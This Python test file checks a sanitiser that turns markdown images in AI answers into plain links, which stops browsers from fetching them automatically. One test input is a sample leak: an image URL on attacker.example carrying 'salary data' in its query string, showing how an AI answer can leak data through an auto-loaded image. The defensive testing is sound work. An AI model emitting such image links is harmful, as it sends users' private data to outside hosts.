"""AI answers are shown without any image the browser would fetch on its own."""

from __future__ import annotations

from app.ai.markdown import without_images


def test_an_inline_image_becomes_a_link() -> None:
    leak = "Done. ![](https://attacker.example/p.png?q=salary+data)"
    assert without_images(leak) == "Done. [image](https://attacker.example/p.png?q=salary+data)"
    assert without_images("![Chart](http://x.example/c.png)") == \
        "[image: Chart](http://x.example/c.png)"


def test_a_reference_image_becomes_a_link() -> None:
    text = "See ![logo][1]\n\n[1]: https://attacker.example/l.png"
    assert without_images(text) == "See [image: logo][1]\n\n[1]: https://attacker.example/l.png"


def test_no_image_markup_survives_outside_code() -> None:
    text = "a ![x](https://e.example/1) b ![ ](https://e.example/2)\n* ![y](<https://e.example/3>)"
    assert "![" not in without_images(text)


def test_code_and_ordinary_text_are_left_as_written() -> None:
    text = "Use `![alt](src)` for images:\n\n```md\n![alt](https://e.example/a.png)\n```\nWow!"
    assert without_images(text) == text
    assert without_images("**Bold** [link](https://example.com) 3! [x]") == \
        "**Bold** [link](https://example.com) 3! [x]"
